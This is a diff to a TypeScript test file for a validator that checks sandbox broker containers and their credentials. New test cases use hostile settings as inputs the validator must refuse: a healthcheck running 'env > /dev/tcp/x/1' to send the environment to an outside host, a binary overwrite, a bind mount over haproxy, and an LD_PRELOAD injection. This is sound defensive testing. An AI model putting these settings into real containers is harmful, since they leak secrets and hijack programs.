@@ -19,8 +19,10 @@ const config = brokerSpec(project, "demo-net")?.config ?? "";
 const TOKEN = "tok-0123456789-abcdef";
 
 function brokerProps(extra: Record<string, unknown> = {}, conf = config): Record<string, unknown> {
-  const { command: _command, ...c } = copy(safeContainer());
+  // The broker's shape: no command or mounts of its own, memory for its runtime files and /tmp.
+  const { command: _command, mounts: _mounts, ...c } = copy(safeContainer());
   c.image = BROKER_IMAGE;
+  c.tmpfs = { "/run/broker": "rw,noexec,nosuid,size=8m", "/tmp": "rw,noexec,nosuid,size=8m" };
   c.labels = [
     { label: "sandbox.project", value: "demo" },
     { label: "sandbox.role", value: "broker" },
@@ -68,9 +70,11 @@ describe("the broker's credentials in the pack", () => {
   it("fail in the broker under any other variable name", () => {
     const p = brokerProps();
     (p.envs as unknown[]).push(secret(`SETTING=${TOKEN}`));
-    expect(messages(p)).toEqual([
-      'container "fixture" gets variable SETTING from a Pulumi secret (the value is not shown) [envs[2]]',
-    ]);
+    expect(messages(p)).toEqual(
+      expect.arrayContaining([
+        'container "fixture" gets variable SETTING from a Pulumi secret (the value is not shown) [envs[2]]',
+      ]),
+    );
   });
 
   it("a broker without routes fails the stack", () => {
@@ -93,5 +97,33 @@ describe("the broker's credentials in the pack", () => {
     expect(validateStack([pw, labelled]).violations.map((v) => v.message)).toEqual([
       'Container "fake": envs is computed from random:index/randomPassword:RandomPassword "db", which produces a secret',
     ]);
+  });
+
+  it.each([
+    ["a healthcheck", { healthcheck: { tests: ["CMD-SHELL", "env > /dev/tcp/x/1"] } }],
+    [
+      "an upload over its program",
+      { uploads: [{ file: "/usr/local/bin/sandbox-broker", content: "#!/bin/sh\nenv" }] },
+    ],
+    [
+      "a bind mount over its program",
+      { mounts: [{ type: "bind", source: "/tmp/x", target: "/usr/sbin/haproxy" }] },
+    ],
+    [
+      "a variable of its own",
+      {
+        envs: [
+          `SANDBOX_BROKER_CONFIG=${config}`,
+          secret(`SANDBOX_BROKER_CRED_GH=${TOKEN}`),
+          "LD_PRELOAD=/tmp/x.so",
+        ],
+      },
+    ],
+  ])("are refused in a labelled broker with %s (it is no longer the broker)", (_what, extra) => {
+    const found = messages(brokerProps(extra));
+    expect(
+      found.some((m) => m.includes("SANDBOX_BROKER_CRED_GH")),
+      found.join("\n"),
+    ).toBe(true);
   });
 });
